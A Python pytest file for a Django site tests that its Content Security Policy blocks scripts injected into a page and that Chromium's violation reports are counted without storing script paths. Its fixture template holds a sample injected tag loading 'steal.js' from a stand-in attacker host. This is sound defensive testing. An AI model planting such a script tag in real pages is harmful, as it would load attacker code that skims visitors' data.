"""A script injected into a page is blocked by the CSP, and Chromium's own report of it ends
up counted (per directive and origin) by the report endpoint.

Chromium uses ``report-to`` whenever a policy has it (and then ignores ``report-uri``), but
in Playwright's browser contexts it does not deliver Reporting API reports at all (not with
``--short-reporting-delay``, not to an absolute endpoint). So the test strips ``report-to``
and ``Reporting-Endpoints`` from the page's real response on its way to the browser, as a
browser that knows only ``report-uri`` would read it, and Chromium posts a real
``application/csp-report``. The Reporting API's format is tested in
tests/consent/test_csp_reports.py.
"""

from __future__ import annotations

import time

import pytest
from django.http import HttpRequest, HttpResponse
from django.template import RequestContext, Template
from django.urls import path

from config import urls as site_urls
from consent.csp_reports import BlockedRequest

# What an injection (a compromised template, a tag added outside the consent mechanism)
# would put in a page: an undeclared external script and an inline one.
INJECTED_PAGE = Template(
    '{% extends "base.html" %}{% block content %}<main id="main-content"><h1>Injected</h1>'
    '<script src="https://injected.example/steal.js?visitor=42"></script>'
    "<script>document.documentElement.dataset.inline = 'ran';</script>"
    "</main>{% endblock %}"
)


def injected_page(request: HttpRequest) -> HttpResponse:
    return HttpResponse(INJECTED_PAGE.render(RequestContext(request)))


urlpatterns = [
    path("test-injected/", injected_page),
    # The site's own list, not include(): its i18n_patterns may only be at the root.
    *site_urls.urlpatterns,
]


def as_report_uri_only(route) -> None:
    """The site's response with only the report-uri part of its reporting."""
    response = route.fetch()
    headers = {k: v for k, v in response.headers.items() if k != "reporting-endpoints"}
    policy = headers["content-security-policy"]
    headers["content-security-policy"] = "; ".join(
        part for part in policy.split("; ") if not part.startswith("report-to")
    )
    route.fulfill(response=response, headers=headers)


def counted(deadline_seconds: float = 20) -> dict[tuple[str, str], int]:
    """The counters once both violations are in (or whatever is there at the deadline)."""
    end = time.monotonic() + deadline_seconds
    rows: dict[tuple[str, str], int] = {}
    while time.monotonic() < end:
        rows = {(row.directive, row.origin): row.count for row in BlockedRequest.objects.all()}
        if len(rows) >= 2:
            break
        time.sleep(0.2)
    return rows


@pytest.mark.timeout(90)
def test_an_injected_script_is_blocked_and_its_report_counted(new_page, live_server, settings):
    settings.ROOT_URLCONF = __name__
    page = new_page()
    served = page.request.get(f"{live_server.url}/test-injected/")
    assert "report-to csp" in served.headers["content-security-policy"]
    assert "report-uri /csp-reports/" in served.headers["content-security-policy"]
    page.route("**/test-injected/", as_report_uri_only)

    page.goto(f"{live_server.url}/test-injected/")

    assert page.evaluate("document.documentElement.dataset.inline") is None  # blocked
    rows = counted()
    assert rows.get(("script-src-elem", "https://injected.example")) == 1
    assert rows.get(("script-src-elem", "inline")) == 1
    stored = list(BlockedRequest.objects.values_list("origin", flat=True))
    assert not any("steal.js" in origin or "visitor" in origin for origin in stored)
